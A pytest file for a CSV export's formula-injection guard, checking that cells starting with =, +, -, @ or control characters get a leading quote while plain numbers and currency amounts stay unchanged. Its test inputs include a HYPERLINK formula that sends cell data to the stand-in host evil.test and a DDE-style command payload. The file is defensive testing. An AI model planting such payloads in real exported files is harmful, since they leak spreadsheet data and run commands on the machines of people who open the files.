"""Cells a spreadsheet would run as a formula get a leading single quote (OWASP's CSV injection rule);
a plain number, or amounts with their codes as the flat format writes them, stay as written (issue 17):
an export re-imports unchanged (issue 16's round trip)."""
from __future__ import annotations

import csv

import pytest

from pimflow import ledger
from pimflow.csv_safety import neutralised
from pimflow.ledger import Change, RecordResult, RunLedger, Status
from pimflow.staging import RunStaging, as_storage_path


@pytest.mark.parametrize("cell, shown", [
    ('=HYPERLINK("http://evil.test/?"&A1,"click")', '\'=HYPERLINK("http://evil.test/?"&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("-5 EUR+1", "'-5 EUR+1"),
    ("-5 EUR(1)", "'-5 EUR(1)"),
    ("-5.00 EUR ", "'-5.00 EUR "),
    ("- soft cotton", "'- soft cotton"),
    ("-", "'-"),
])
def test_a_cell_that_would_start_a_formula_gets_a_single_quote(cell, shown):
    assert neutralised(cell) == shown


@pytest.mark.parametrize("cell", ["-5", "+3.50", "-1,25", "-.5", "2e-3", "-1E+6", "A=1", "x-1", "'=1+1", "", "Shoe",
                                  "-5.00 EUR", "-6.4336 CEL", "-5.00 EUR<###>-6.00 USD"])
def test_plain_numbers_and_harmless_text_stay_as_they_are(cell):
    assert neutralised(cell) == cell


def test_a_dry_run_diff_neutralises_formulas_and_keeps_numbers(tmp_path):
    staging = RunStaging(as_storage_path(tmp_path), "dag", "run-1")
    ledger.record(staging, "load", 0, [RecordResult(n=0, status=Status.WOULD_WRITE, key="=1+1", changes=(
        Change.of("title", "@old", '=HYPERLINK("http://evil.test","x")', "update", "Inventory/Update"),
        Change.of("stock", "-5", "-4", "update")))])

    assert RunLedger(staging).write_diff(0) == 2

    with staging.dry_run("diff-00000.csv").open(encoding="utf-8", newline="") as handle:
        assert list(csv.reader(handle)) == [
            ["sku", "field", "old", "new", "action", "endpoint"],
            ["'=1+1", "title", "'@old", '\'=HYPERLINK("http://evil.test","x")', "update", "Inventory/Update"],
            ["'=1+1", "stock", "-5", "-4", "update", ""],
        ]
